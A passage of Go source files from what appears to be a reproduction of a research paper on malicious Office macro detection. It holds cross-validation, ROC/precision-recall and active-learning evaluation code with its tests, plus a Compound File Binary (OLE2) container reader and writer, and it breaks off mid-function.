			for _, i := range test {
				inTest[i] = true
			}
			trainX := make([][]float64, 0, len(X)-len(test))
			trainY := make([]int, 0, len(X)-len(test))
			for i := range X {
				if !inTest[i] {
					trainX = append(trainX, X[i])
					trainY = append(trainY, y[i])
				}
			}
			clf := factory(f)
			if err := clf.Fit(trainX, trainY); err != nil {
				errs[f] = fmt.Errorf("fold %d: %w", f, err)
				return
			}
			var c Confusion
			for _, i := range test {
				pred := clf.Predict(X[i])
				c.Add(pred, y[i])
				res.Scores[i] = clf.Score(X[i])
			}
			confusions[f] = c
			res.FoldAccuracy[f] = c.Accuracy()
		}(f)
	}
	wg.Wait()
	for _, err := range errs {
		if err != nil {
			return nil, err
		}
	}
	for _, c := range confusions {
		res.Confusion.Merge(c)
	}
	return res, nil
}

// PRPoint is one precision-recall operating point.
type PRPoint struct {
	Recall    float64
	Precision float64
	Threshold float64
}

// PR computes the precision-recall curve from decision scores and true
// labels, from the highest threshold (low recall, high precision) down.
// Ties are consumed together, as in ROC.
func PR(scores []float64, labels []int) []PRPoint {
	type pair struct {
		s float64
		y int
	}
	pairs := make([]pair, len(scores))
	pos := 0
	for i := range scores {
		pairs[i] = pair{scores[i], labels[i]}
		if labels[i] == ml.Positive {
			pos++
		}
	}
	sort.Slice(pairs, func(i, j int) bool { return pairs[i].s > pairs[j].s })
	var points []PRPoint
	tp, fp := 0, 0
	for i := 0; i < len(pairs); {
		thr := pairs[i].s
		for i < len(pairs) && pairs[i].s == thr {
			if pairs[i].y == ml.Positive {
				tp++
			} else {
				fp++
			}
			i++
		}
		points = append(points, PRPoint{
			Recall:    safeDiv(float64(tp), float64(pos)),
			Precision: safeDiv(float64(tp), float64(tp+fp)),
			Threshold: thr,
		})
	}
	return points
}

// AveragePrecision integrates the PR curve by the step rule
// (sum over points of precision × recall increment).
func AveragePrecision(points []PRPoint) float64 {
	ap := 0.0
	prevRecall := 0.0
	for _, p := range points {
		ap += p.Precision * (p.Recall - prevRecall)
		prevRecall = p.Recall
	}
	return ap
}
