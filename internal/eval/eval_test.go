package eval

import (
	"math"
	"math/rand"
	"testing"
	"testing/quick"

	"repro/internal/ml"
)

func TestConfusionMetrics(t *testing.T) {
	c := Confusion{TP: 8, FP: 2, TN: 85, FN: 5}
	if got := c.Accuracy(); math.Abs(got-0.93) > 1e-12 {
		t.Errorf("Accuracy = %v", got)
	}
	if got := c.Precision(); math.Abs(got-0.8) > 1e-12 {
		t.Errorf("Precision = %v", got)
	}
	if got := c.Recall(); math.Abs(got-8.0/13) > 1e-12 {
		t.Errorf("Recall = %v", got)
	}
	// F1 = harmonic mean.
	p, r := 0.8, 8.0/13
	f1 := 2 * p * r / (p + r)
	if got := c.FBeta(1); math.Abs(got-f1) > 1e-12 {
		t.Errorf("F1 = %v, want %v", got, f1)
	}
	f2 := 5 * p * r / (4*p + r)
	if got := c.F2(); math.Abs(got-f2) > 1e-12 {
		t.Errorf("F2 = %v, want %v", got, f2)
	}
}

func TestConfusionEmpty(t *testing.T) {
	var c Confusion
	if c.Accuracy() != 0 || c.Precision() != 0 || c.Recall() != 0 || c.F2() != 0 {
		t.Error("empty confusion must yield zeros, not NaN")
	}
}

func TestConfusionAddAndMerge(t *testing.T) {
	var c Confusion
	c.Add(ml.Positive, ml.Positive)
	c.Add(ml.Positive, ml.Negative)
	c.Add(ml.Negative, ml.Negative)
	c.Add(ml.Negative, ml.Positive)
	if c.TP != 1 || c.FP != 1 || c.TN != 1 || c.FN != 1 {
		t.Errorf("confusion = %+v", c)
	}
	var d Confusion
	d.Merge(c)
	d.Merge(c)
	if d.Total() != 8 {
		t.Errorf("merged total = %d", d.Total())
	}
}

func TestROCPerfectClassifier(t *testing.T) {
	scores := []float64{0.9, 0.8, 0.2, 0.1}
	labels := []int{1, 1, 0, 0}
	roc := ROC(scores, labels)
	if auc := AUC(roc); math.Abs(auc-1) > 1e-12 {
		t.Errorf("AUC = %v, want 1", auc)
	}
}

func TestROCRandomClassifierHalfAUC(t *testing.T) {
	rng := rand.New(rand.NewSource(6))
	n := 4000
	scores := make([]float64, n)
	labels := make([]int, n)
	for i := range scores {
		scores[i] = rng.Float64()
		labels[i] = rng.Intn(2)
	}
	auc := AUC(ROC(scores, labels))
	if math.Abs(auc-0.5) > 0.03 {
		t.Errorf("random AUC = %v, want ~0.5", auc)
	}
}

func TestROCInvertedClassifier(t *testing.T) {
	scores := []float64{0.1, 0.2, 0.8, 0.9}
	labels := []int{1, 1, 0, 0}
	if auc := AUC(ROC(scores, labels)); math.Abs(auc) > 1e-12 {
		t.Errorf("inverted AUC = %v, want 0", auc)
	}
}

func TestROCTiedScores(t *testing.T) {
	scores := []float64{0.5, 0.5, 0.5, 0.5}
	labels := []int{1, 0, 1, 0}
	roc := ROC(scores, labels)
	// All ties collapse into one diagonal step: AUC must be 0.5 exactly.
	if auc := AUC(roc); math.Abs(auc-0.5) > 1e-12 {
		t.Errorf("tied AUC = %v, want 0.5", auc)
	}
	if len(roc) != 2 {
		t.Errorf("tied ROC has %d points, want 2", len(roc))
	}
}

func TestROCEndpoints(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		n := 2 + rng.Intn(100)
		scores := make([]float64, n)
		labels := make([]int, n)
		labels[0], labels[1] = 0, 1 // both classes present
		for i := range scores {
			scores[i] = rng.NormFloat64()
			if i >= 2 {
				labels[i] = rng.Intn(2)
			}
		}
		roc := ROC(scores, labels)
		first, last := roc[0], roc[len(roc)-1]
		return first.FPR == 0 && first.TPR == 0 && last.FPR == 1 && last.TPR == 1
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Error(err)
	}
}

func TestStratifiedKFold(t *testing.T) {
	// 100 samples, 20% positive.
	y := make([]int, 100)
	for i := 0; i < 20; i++ {
		y[i] = 1
	}
	folds := StratifiedKFold(y, 10, 1)
	if len(folds) != 10 {
		t.Fatalf("folds = %d", len(folds))
	}
	seen := map[int]int{}
	for _, fold := range folds {
		pos := 0
		for _, i := range fold {
			seen[i]++
			pos += y[i]
		}
		if pos != 2 {
			t.Errorf("fold has %d positives, want 2", pos)
		}
		if len(fold) != 10 {
			t.Errorf("fold size = %d, want 10", len(fold))
		}
	}
	if len(seen) != 100 {
		t.Errorf("folds cover %d samples, want 100", len(seen))
	}
	for i, n := range seen {
		if n != 1 {
			t.Errorf("sample %d appears %d times", i, n)
		}
	}
}

func TestStratifiedKFoldDeterministic(t *testing.T) {
	y := []int{0, 1, 0, 1, 0, 1, 0, 1}
	a := StratifiedKFold(y, 4, 9)
	b := StratifiedKFold(y, 4, 9)
	for i := range a {
		if len(a[i]) != len(b[i]) {
			t.Fatal("fold sizes differ")
		}
		for j := range a[i] {
			if a[i][j] != b[i][j] {
				t.Fatal("folds differ for equal seeds")
			}
		}
	}
}

// stumpClassifier is a deterministic test double: positive iff x[0] > 0.
type stumpClassifier struct{ fitted bool }

func (s *stumpClassifier) Name() string                     { return "stump" }
func (s *stumpClassifier) Fit(X [][]float64, y []int) error { s.fitted = true; return nil }
func (s *stumpClassifier) Predict(x []float64) int {
	if x[0] > 0 {
		return ml.Positive
	}
	return ml.Negative
}
func (s *stumpClassifier) Score(x []float64) float64 { return x[0] }

func TestCrossValidate(t *testing.T) {
	// Perfectly separable by the stump.
	n := 60
	X := make([][]float64, n)
	y := make([]int, n)
	for i := range X {
		if i%2 == 0 {
			X[i] = []float64{1}
			y[i] = 1
		} else {
			X[i] = []float64{-1}
		}
	}
	res, err := CrossValidate(func(int) ml.Classifier { return &stumpClassifier{} }, X, y, 10, 3)
	if err != nil {
		t.Fatal(err)
	}
	if res.Confusion.Accuracy() != 1 {
		t.Errorf("accuracy = %v", res.Confusion.Accuracy())
	}
	if auc := res.AUC(); auc != 1 {
		t.Errorf("AUC = %v", auc)
	}
	if len(res.FoldAccuracy) != 10 {
		t.Errorf("fold accuracies = %d", len(res.FoldAccuracy))
	}
	if res.Confusion.Total() != n {
		t.Errorf("total = %d, want %d", res.Confusion.Total(), n)
	}
}

func TestCrossValidateErrors(t *testing.T) {
	X := [][]float64{{1}, {2}}
	y := []int{0, 1}
	if _, err := CrossValidate(func(int) ml.Classifier { return &stumpClassifier{} }, X, y, 5, 1); err == nil {
		t.Error("k > n accepted")
	}
	if _, err := CrossValidate(func(int) ml.Classifier { return &stumpClassifier{} }, X, nil, 2, 1); err == nil {
		t.Error("label mismatch accepted")
	}
}

func TestCrossValidateRealClassifier(t *testing.T) {
	rng := rand.New(rand.NewSource(17))
	n := 200
	X := make([][]float64, n)
	y := make([]int, n)
	for i := range X {
		c := i % 2
		X[i] = []float64{float64(c)*3 - 1.5 + rng.NormFloat64()*0.4, rng.NormFloat64()}
		y[i] = c
	}
	res, err := CrossValidate(func(fold int) ml.Classifier {
		return ml.NewScaled(ml.NewLDA())
	}, X, y, 5, 7)
	if err != nil {
		t.Fatal(err)
	}
	if acc := res.Confusion.Accuracy(); acc < 0.9 {
		t.Errorf("LDA CV accuracy = %v", acc)
	}
	if auc := res.AUC(); auc < 0.95 {
		t.Errorf("LDA CV AUC = %v", auc)
	}
}

func TestPRPerfectClassifier(t *testing.T) {
	pr := PR([]float64{0.9, 0.8, 0.2, 0.1}, []int{1, 1, 0, 0})
	if ap := AveragePrecision(pr); math.Abs(ap-1) > 1e-12 {
		t.Errorf("AP = %v, want 1", ap)
	}
	// First point: recall 0.5 at precision 1.
	if pr[0].Recall != 0.5 || pr[0].Precision != 1 {
		t.Errorf("first point = %+v", pr[0])
	}
}

func TestPRRandomClassifier(t *testing.T) {
	rng := rand.New(rand.NewSource(8))
	n := 4000
	scores := make([]float64, n)
	labels := make([]int, n)
	posFrac := 0.2
	for i := range scores {
		scores[i] = rng.Float64()
		if rng.Float64() < posFrac {
			labels[i] = 1
		}
	}
	ap := AveragePrecision(PR(scores, labels))
	// Random ranking yields AP ≈ positive prevalence.
	if math.Abs(ap-posFrac) > 0.05 {
		t.Errorf("random AP = %v, want ~%v", ap, posFrac)
	}
}

func TestPREndsAtFullRecall(t *testing.T) {
	pr := PR([]float64{3, 2, 1}, []int{0, 1, 1})
	last := pr[len(pr)-1]
	if last.Recall != 1 {
		t.Errorf("last recall = %v", last.Recall)
	}
}

// TestCrossValidateParallelDeterministic asserts repeated CV runs with
// seeded classifiers are bit-identical even though folds train on
// concurrent goroutines: each fold's model depends only on the fold index
// and data, never on scheduling.
func TestCrossValidateParallelDeterministic(t *testing.T) {
	rng := rand.New(rand.NewSource(23))
	n := 240
	X := make([][]float64, n)
	y := make([]int, n)
	for i := range X {
		c := i % 2
		X[i] = make([]float64, 6)
		for d := range X[i] {
			X[i][d] = float64(c)*1.5 + rng.NormFloat64()
		}
		y[i] = c
	}
	run := func() *CVResult {
		res, err := CrossValidate(func(fold int) ml.Classifier {
			return ml.NewRandomForest(int64(fold))
		}, X, y, 10, 5)
		if err != nil {
			t.Fatal(err)
		}
		return res
	}
	a, b := run(), run()
	if a.Confusion != b.Confusion {
		t.Errorf("confusions differ: %+v vs %+v", a.Confusion, b.Confusion)
	}
	for i := range a.Scores {
		if a.Scores[i] != b.Scores[i] {
			t.Fatalf("score %d differs: %v vs %v", i, a.Scores[i], b.Scores[i])
		}
	}
	for f := range a.FoldAccuracy {
		if a.FoldAccuracy[f] != b.FoldAccuracy[f] {
			t.Errorf("fold %d accuracy differs", f)
		}
	}
}
