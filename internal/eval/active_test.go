package eval

import (
	"math/rand"
	"testing"

	"repro/internal/ml"
)

// activeData builds a noisy 2-class dataset where more labels genuinely
// help.
func activeData(n int, seed int64) ([][]float64, []int) {
	rng := rand.New(rand.NewSource(seed))
	X := make([][]float64, n)
	y := make([]int, n)
	for i := range X {
		c := i % 2
		center := -0.8
		if c == 1 {
			center = 0.8
		}
		X[i] = []float64{
			center + rng.NormFloat64(),
			center*0.5 + rng.NormFloat64(),
			rng.NormFloat64(),
		}
		y[i] = c
	}
	return X, y
}

func rfFactory(round int) ml.Classifier {
	rf := ml.NewRandomForest(int64(round))
	rf.Trees = 30
	return rf
}

func TestRunActiveLearnsOverRounds(t *testing.T) {
	Xpool, yPool := activeData(400, 1)
	Xtest, yTest := activeData(200, 2)
	res, err := RunActive(ActiveConfig{
		Factory: rfFactory, Threshold: 0.5,
		Initial: 20, BatchSize: 40, Rounds: 6, Seed: 3,
	}, Xpool, yPool, Xtest, yTest)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.F2) != 6 {
		t.Fatalf("rounds = %d", len(res.F2))
	}
	if res.Labeled[0] < 20 || res.Labeled[len(res.Labeled)-1] <= res.Labeled[0] {
		t.Errorf("labeled counts = %v", res.Labeled)
	}
	if res.F2[len(res.F2)-1] < res.F2[0]-0.05 {
		t.Errorf("F2 degraded with more labels: %v", res.F2)
	}
}

func TestActiveBeatsRandomOnLabelEfficiency(t *testing.T) {
	Xpool, yPool := activeData(600, 5)
	Xtest, yTest := activeData(300, 6)

	run := func(random bool) *ActiveResult {
		res, err := RunActive(ActiveConfig{
			Factory: rfFactory, Threshold: 0.5,
			Initial: 16, BatchSize: 30, Rounds: 10, Seed: 7, Random: random,
		}, Xpool, yPool, Xtest, yTest)
		if err != nil {
			t.Fatal(err)
		}
		return res
	}
	active := run(false)
	baseline := run(true)

	// Mean F2 across the acquisition curve: uncertainty sampling should
	// not be worse than random by any meaningful margin.
	mean := func(xs []float64) float64 {
		s := 0.0
		for _, x := range xs {
			s += x
		}
		return s / float64(len(xs))
	}
	if mean(active.F2) < mean(baseline.F2)-0.05 {
		t.Errorf("active mean F2 %.3f much worse than random %.3f",
			mean(active.F2), mean(baseline.F2))
	}
}

func TestLabelsToReach(t *testing.T) {
	r := &ActiveResult{Labeled: []int{10, 20, 30}, F2: []float64{0.5, 0.8, 0.9}}
	if got := r.LabelsToReach(0.75); got != 20 {
		t.Errorf("LabelsToReach = %d", got)
	}
	if got := r.LabelsToReach(0.95); got != -1 {
		t.Errorf("LabelsToReach unreachable = %d", got)
	}
}

func TestRunActiveValidation(t *testing.T) {
	if _, err := RunActive(ActiveConfig{Factory: rfFactory}, [][]float64{{1}}, nil, nil, nil); err == nil {
		t.Error("mismatched pool accepted")
	}
}

func TestRunActiveExhaustsPool(t *testing.T) {
	Xpool, yPool := activeData(60, 9)
	Xtest, yTest := activeData(40, 10)
	res, err := RunActive(ActiveConfig{
		Factory: rfFactory, Threshold: 0.5,
		Initial: 10, BatchSize: 25, Seed: 11,
	}, Xpool, yPool, Xtest, yTest)
	if err != nil {
		t.Fatal(err)
	}
	last := res.Labeled[len(res.Labeled)-1]
	if last != len(Xpool) {
		t.Errorf("final labeled = %d, want %d", last, len(Xpool))
	}
}
