package eval

import (
	"errors"
	"fmt"
	"math"
	"math/rand"

	"repro/internal/ml"
)

// Active learning (pool-based uncertainty sampling) — the extension the
// paper points to via Nissim et al.'s ALDOCX: instead of labeling the
// whole corpus, experts label only the samples the current model is least
// sure about, which reduced labeling effort by ~95% in that work.

// ActiveConfig parameterizes an active-learning simulation.
type ActiveConfig struct {
	// Factory builds a fresh classifier per round.
	Factory func(round int) ml.Classifier
	// Threshold is the decision boundary of the classifier's Score
	// (0.5 for probability outputs like RF/MLP, 0 for margins like SVM).
	Threshold float64
	// Initial is the number of randomly labeled seed samples (default 20).
	Initial int
	// BatchSize is the number of labels acquired per round (default 20).
	BatchSize int
	// Rounds caps the number of acquisition rounds (default: until the
	// pool is exhausted).
	Rounds int
	// Seed drives the initial sample and tie-breaking.
	Seed int64
	// Random switches to random sampling (the baseline ablation).
	Random bool
}

// ActiveResult traces one simulation: after round i, Labeled[i] samples
// carried labels and the model scored F2[i] on the held-out test set.
type ActiveResult struct {
	Labeled []int
	F2      []float64
}

// LabelsToReach returns the smallest labeled-set size whose F2 reached
// target, or -1 if never reached.
func (r *ActiveResult) LabelsToReach(target float64) int {
	for i, f := range r.F2 {
		if f >= target {
			return r.Labeled[i]
		}
	}
	return -1
}

// RunActive simulates pool-based active learning: a model is trained on a
// small seed set, then repeatedly queries labels for the pool samples with
// the most uncertain scores and retrains.
func RunActive(cfg ActiveConfig, Xpool [][]float64, yPool []int, Xtest [][]float64, yTest []int) (*ActiveResult, error) {
	if len(Xpool) != len(yPool) || len(Xtest) != len(yTest) {
		return nil, errors.New("eval: active learning size mismatch")
	}
	if cfg.Initial == 0 {
		cfg.Initial = 20
	}
	if cfg.BatchSize == 0 {
		cfg.BatchSize = 20
	}
	if cfg.Rounds == 0 {
		cfg.Rounds = (len(Xpool)-cfg.Initial)/cfg.BatchSize + 1
	}
	rng := rand.New(rand.NewSource(cfg.Seed))

	order := rng.Perm(len(Xpool))
	labeled := map[int]bool{}
	// Seed set: random, but guaranteed to contain both classes.
	for _, i := range order {
		if len(labeled) >= cfg.Initial {
			break
		}
		labeled[i] = true
	}
	ensureBothClasses(labeled, yPool, order)

	res := &ActiveResult{}
	for round := 0; round < cfg.Rounds; round++ {
		clf := cfg.Factory(round)
		var X [][]float64
		var y []int
		for i := range Xpool {
			if labeled[i] {
				X = append(X, Xpool[i])
				y = append(y, yPool[i])
			}
		}
		if err := clf.Fit(X, y); err != nil {
			return nil, fmt.Errorf("eval: active round %d: %w", round, err)
		}
		var c Confusion
		for i, x := range Xtest {
			c.Add(clf.Predict(x), yTest[i])
		}
		res.Labeled = append(res.Labeled, len(X))
		res.F2 = append(res.F2, c.F2())

		if len(labeled) >= len(Xpool) {
			break
		}
		// Acquire the next batch.
		type cand struct {
			idx         int
			uncertainty float64
		}
		var cands []cand
		for i := range Xpool {
			if labeled[i] {
				continue
			}
			u := rng.Float64() // random baseline
			if !cfg.Random {
				u = math.Abs(clf.Score(Xpool[i]) - cfg.Threshold)
			}
			cands = append(cands, cand{idx: i, uncertainty: u})
		}
		// Partial selection: smallest uncertainty first.
		for b := 0; b < cfg.BatchSize && b < len(cands); b++ {
			best := b
			for j := b + 1; j < len(cands); j++ {
				if cands[j].uncertainty < cands[best].uncertainty {
					best = j
				}
			}
			cands[b], cands[best] = cands[best], cands[b]
			labeled[cands[b].idx] = true
		}
	}
	return res, nil
}

// ensureBothClasses adds samples until labeled covers both classes.
func ensureBothClasses(labeled map[int]bool, y []int, order []int) {
	var pos, neg bool
	for i := range labeled {
		if y[i] == ml.Positive {
			pos = true
		} else {
			neg = true
		}
	}
	for _, i := range order {
		if pos && neg {
			return
		}
		if !pos && y[i] == ml.Positive {
			labeled[i] = true
			pos = true
		}
		if !neg && y[i] == ml.Negative {
			labeled[i] = true
			neg = true
		}
	}
}
