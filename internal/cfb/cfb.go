// Package cfb implements the Microsoft Compound File Binary (CFB) format,
// also known as OLE2 structured storage — the container format of legacy
// Office documents (.doc, .xls) and of the vbaProject.bin part embedded in
// OOXML documents.
//
// The package provides both a reader (Parse) and a writer (Builder), which
// lets the test suite and the synthetic corpus generator round-trip real
// container files: documents are built with Builder, then re-opened with
// Parse by the macro extractor, exactly as oletools does for the paper.
//
// The implementation follows [MS-CFB]. Version 3 (512-byte sectors) and
// version 4 (4096-byte sectors) files are readable; the writer always emits
// version 3, which is what Office itself writes for .doc/.xls.
package cfb

import (
	"errors"
	"fmt"
	"strings"
	"unicode/utf16"
)

// Signature is the 8-byte magic at offset 0 of every compound file.
var Signature = [8]byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1}

// Special sector numbers ([MS-CFB] §2.1).
const (
	maxRegSect = 0xFFFFFFFA
	difSect    = 0xFFFFFFFC
	fatSect    = 0xFFFFFFFD
	endOfChain = 0xFFFFFFFE
	freeSect   = 0xFFFFFFFF
	noStream   = 0xFFFFFFFF
)

// Directory entry object types ([MS-CFB] §2.6.1).
const (
	typeUnknown = 0x00
	typeStorage = 0x01
	typeStream  = 0x02
	typeRoot    = 0x05
)

// miniStreamCutoff is the size below which streams live in the mini stream.
const miniStreamCutoff = 4096

// miniSectorSize is the size of a mini stream sector.
const miniSectorSize = 64

// Errors reported by the reader.
var (
	ErrNotCompoundFile = errors.New("cfb: not a compound file (bad signature)")
	ErrCorrupt         = errors.New("cfb: corrupt compound file")
	ErrStreamNotFound  = errors.New("cfb: stream not found")
)

// File is a parsed compound file.
type File struct {
	// Root is the root storage. Its name is conventionally "Root Entry".
	Root *Storage
	// SectorSize is 512 for version 3 files and 4096 for version 4.
	SectorSize int
}

// Storage is a directory node holding streams and child storages.
type Storage struct {
	Name     string
	Storages []*Storage
	Streams  []*Stream
	// CLSID is the class identifier of the storage (16 bytes, may be zero).
	CLSID [16]byte
}

// Stream is a named byte sequence inside a storage.
type Stream struct {
	Name string
	Data []byte
}

// Storage returns the direct child storage with the given name
// (case-insensitive, as CFB name comparison is), or nil.
func (s *Storage) Storage(name string) *Storage {
	for _, c := range s.Storages {
		if strings.EqualFold(c.Name, name) {
			return c
		}
	}
	return nil
}

// Stream returns the direct child stream with the given name
// (case-insensitive), or nil.
func (s *Storage) Stream(name string) *Stream {
	for _, c := range s.Streams {
		if strings.EqualFold(c.Name, name) {
			return c
		}
	}
	return nil
}

// ReadStream resolves a /-separated path of storages ending in a stream
// name, starting at the file root, and returns the stream contents.
func (f *File) ReadStream(path string) ([]byte, error) {
	parts := strings.Split(path, "/")
	cur := f.Root
	for i, p := range parts {
		if i == len(parts)-1 {
			if st := cur.Stream(p); st != nil {
				return st.Data, nil
			}
			return nil, fmt.Errorf("%w: %q", ErrStreamNotFound, path)
		}
		next := cur.Storage(p)
		if next == nil {
			return nil, fmt.Errorf("%w: %q", ErrStreamNotFound, path)
		}
		cur = next
	}
	return nil, fmt.Errorf("%w: %q", ErrStreamNotFound, path)
}

// Walk visits every stream in the file in depth-first order, passing the
// /-separated storage path (not including the root name) and the stream.
func (f *File) Walk(fn func(path string, s *Stream)) {
	var rec func(prefix string, st *Storage)
	rec = func(prefix string, st *Storage) {
		for _, s := range st.Streams {
			fn(prefix+s.Name, s)
		}
		for _, c := range st.Storages {
			rec(prefix+c.Name+"/", c)
		}
	}
	rec("", f.Root)
}

// encodeName converts a storage/stream name to the on-disk UTF-16LE form
// with a terminating null, returning the 64-byte field and the length in
// bytes including the null.
func encodeName(name string) (field [64]byte, byteLen int, err error) {
	units := utf16.Encode([]rune(name))
	if len(units) > 31 {
		return field, 0, fmt.Errorf("cfb: name %q longer than 31 UTF-16 units", name)
	}
	for i, u := range units {
		field[2*i] = byte(u)
		field[2*i+1] = byte(u >> 8)
	}
	return field, (len(units) + 1) * 2, nil
}

// decodeName converts the on-disk name field back to a Go string.
func decodeName(field []byte, byteLen int) string {
	if byteLen < 2 || byteLen > 64 {
		return ""
	}
	n := byteLen/2 - 1 // drop terminating null
	units := make([]uint16, 0, n)
	for i := 0; i < n; i++ {
		units = append(units, uint16(field[2*i])|uint16(field[2*i+1])<<8)
	}
	return string(utf16.Decode(units))
}

// nameLess is the CFB directory ordering: shorter names sort first; equal
// lengths compare by upper-cased UTF-16 value ([MS-CFB] §2.6.4).
func nameLess(a, b string) bool {
	ua, ub := strings.ToUpper(a), strings.ToUpper(b)
	ea, eb := utf16.Encode([]rune(ua)), utf16.Encode([]rune(ub))
	if len(ea) != len(eb) {
		return len(ea) < len(eb)
	}
	for i := range ea {
		if ea[i] != eb[i] {
			return ea[i] < eb[i]
		}
	}
	return false
}
