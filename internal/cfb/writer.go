package cfb

import (
	"encoding/binary"
	"fmt"
	"sort"
	"strings"
)

// Builder assembles a version-3 compound file (512-byte sectors).
//
// Usage:
//
//	b := cfb.NewBuilder()
//	b.AddStream("Macros/VBA/dir", dirBytes)
//	data, err := b.Bytes()
//
// Intermediate storages are created on demand. The zero Builder is not
// usable; call NewBuilder.
type Builder struct {
	root *buildNode
}

type buildNode struct {
	name     string
	isStream bool
	data     []byte
	clsid    [16]byte
	children map[string]*buildNode // storages only; key is lower-cased name
}

// NewBuilder returns an empty Builder whose root storage is "Root Entry".
func NewBuilder() *Builder {
	return &Builder{root: &buildNode{name: "Root Entry", children: map[string]*buildNode{}}}
}

// AddStorage ensures the /-separated storage path exists.
func (b *Builder) AddStorage(path string) error {
	_, err := b.ensure(strings.Split(path, "/"))
	return err
}

// SetCLSID sets the class ID of the storage at path ("" for the root).
func (b *Builder) SetCLSID(path string, clsid [16]byte) error {
	node := b.root
	if path != "" {
		var err error
		node, err = b.ensure(strings.Split(path, "/"))
		if err != nil {
			return err
		}
	}
	node.clsid = clsid
	return nil
}

// AddStream adds a stream at the /-separated path; the last component is
// the stream name. Adding a stream that already exists replaces its data.
func (b *Builder) AddStream(path string, data []byte) error {
	parts := strings.Split(path, "/")
	if len(parts) == 0 || parts[len(parts)-1] == "" {
		return fmt.Errorf("cfb: empty stream name in path %q", path)
	}
	parent, err := b.ensure(parts[:len(parts)-1])
	if err != nil {
		return err
	}
	name := parts[len(parts)-1]
	if _, _, err := encodeName(name); err != nil {
		return err
	}
	key := strings.ToLower(name)
	if existing, ok := parent.children[key]; ok {
		if !existing.isStream {
			return fmt.Errorf("cfb: %q already exists as a storage", path)
		}
		existing.data = append([]byte(nil), data...)
		return nil
	}
	parent.children[key] = &buildNode{
		name:     name,
		isStream: true,
		data:     append([]byte(nil), data...),
	}
	return nil
}

func (b *Builder) ensure(parts []string) (*buildNode, error) {
	cur := b.root
	for _, p := range parts {
		if p == "" {
			continue
		}
		if _, _, err := encodeName(p); err != nil {
			return nil, err
		}
		key := strings.ToLower(p)
		next, ok := cur.children[key]
		if !ok {
			next = &buildNode{name: p, children: map[string]*buildNode{}}
			cur.children[key] = next
		} else if next.isStream {
			return nil, fmt.Errorf("cfb: %q already exists as a stream", p)
		}
		cur = next
	}
	return cur, nil
}

// writeEntry is one flattened directory entry during layout.
type writeEntry struct {
	node        *buildNode
	objType     byte
	left, right uint32
	child       uint32
	startSector uint32
	size        uint64
}

// Bytes lays out and serializes the compound file.
func (b *Builder) Bytes() ([]byte, error) {
	const sectorSize = 512
	const entriesPerSector = sectorSize / 128
	const fatEntriesPerSector = sectorSize / 4

	// 1. Flatten the tree into directory entries, parent before children.
	entries := []*writeEntry{{node: b.root, objType: typeRoot, left: noStream, right: noStream, child: noStream}}
	ids := map[*buildNode]uint32{b.root: 0}
	var flatten func(n *buildNode) error
	flatten = func(n *buildNode) error {
		kids := sortedChildren(n)
		for _, k := range kids {
			t := byte(typeStorage)
			if k.isStream {
				t = typeStream
			}
			ids[k] = uint32(len(entries))
			entries = append(entries, &writeEntry{node: k, objType: t, left: noStream, right: noStream, child: noStream})
		}
		// Balanced BST over the sorted children gives the sibling tree.
		entries[ids[n]].child = buildBST(kids, ids, entries)
		for _, k := range kids {
			if !k.isStream {
				if err := flatten(k); err != nil {
					return err
				}
			}
		}
		return nil
	}
	if err := flatten(b.root); err != nil {
		return nil, err
	}

	// 2. Assemble the mini stream (streams under the 4096-byte cutoff) and
	// its miniFAT, chaining each stream's mini sectors sequentially.
	var miniStream []byte
	var miniFAT []uint32
	for _, e := range entries {
		if e.objType != typeStream {
			continue
		}
		n := len(e.node.data)
		e.size = uint64(n)
		if n == 0 {
			e.startSector = endOfChain
			continue
		}
		if n >= miniStreamCutoff {
			continue // laid out in regular sectors below
		}
		e.startSector = uint32(len(miniFAT))
		nSect := (n + miniSectorSize - 1) / miniSectorSize
		for i := 0; i < nSect-1; i++ {
			miniFAT = append(miniFAT, uint32(len(miniFAT))+1)
		}
		miniFAT = append(miniFAT, endOfChain)
		miniStream = append(miniStream, e.node.data...)
		if pad := nSect*miniSectorSize - n; pad > 0 {
			miniStream = append(miniStream, make([]byte, pad)...)
		}
	}

	// 3. Count regular sectors: directory, miniFAT, mini stream, large
	// streams. FAT sectors are appended last; their count is found by
	// fixed-point iteration since the FAT covers itself.
	nDirSectors := (len(entries) + entriesPerSector - 1) / entriesPerSector
	if nDirSectors == 0 {
		nDirSectors = 1
	}
	nMiniFATSectors := (len(miniFAT) + fatEntriesPerSector - 1) / fatEntriesPerSector
	nMiniStreamSectors := (len(miniStream) + sectorSize - 1) / sectorSize
	nLargeSectors := 0
	for _, e := range entries {
		if e.objType == typeStream && len(e.node.data) >= miniStreamCutoff {
			nLargeSectors += (len(e.node.data) + sectorSize - 1) / sectorSize
		}
	}
	// FAT and DIFAT sizes are mutually recursive (the FAT covers itself
	// and the DIFAT sectors; DIFAT sectors list FAT sectors beyond the
	// header's 109 slots). Iterate to the fixed point.
	const difatEntriesPerSector = fatEntriesPerSector - 1 // last slot chains
	dataSectors := nDirSectors + nMiniFATSectors + nMiniStreamSectors + nLargeSectors
	nFATSectors, nDIFATSectors := 0, 0
	for {
		needFAT := (dataSectors + nFATSectors + nDIFATSectors + fatEntriesPerSector - 1) / fatEntriesPerSector
		needDIFAT := 0
		if needFAT > 109 {
			needDIFAT = (needFAT - 109 + difatEntriesPerSector - 1) / difatEntriesPerSector
		}
		if needFAT == nFATSectors && needDIFAT == nDIFATSectors {
			break
		}
		nFATSectors, nDIFATSectors = needFAT, needDIFAT
	}
	totalSectors := dataSectors + nFATSectors + nDIFATSectors

	// 4. Assign sector ranges in layout order.
	next := uint32(0)
	alloc := func(n int) uint32 {
		s := next
		next += uint32(n)
		return s
	}
	dirStart := alloc(nDirSectors)
	miniFATStart := uint32(endOfChain)
	if nMiniFATSectors > 0 {
		miniFATStart = alloc(nMiniFATSectors)
	}
	miniStreamStart := uint32(endOfChain)
	if nMiniStreamSectors > 0 {
		miniStreamStart = alloc(nMiniStreamSectors)
	}
	for _, e := range entries {
		if e.objType == typeStream && len(e.node.data) >= miniStreamCutoff {
			e.startSector = alloc((len(e.node.data) + sectorSize - 1) / sectorSize)
		}
	}
	// Root entry describes the mini stream.
	entries[0].startSector = miniStreamStart
	entries[0].size = uint64(len(miniStream))
	fatStart := alloc(nFATSectors)
	difatStart := uint32(endOfChain)
	if nDIFATSectors > 0 {
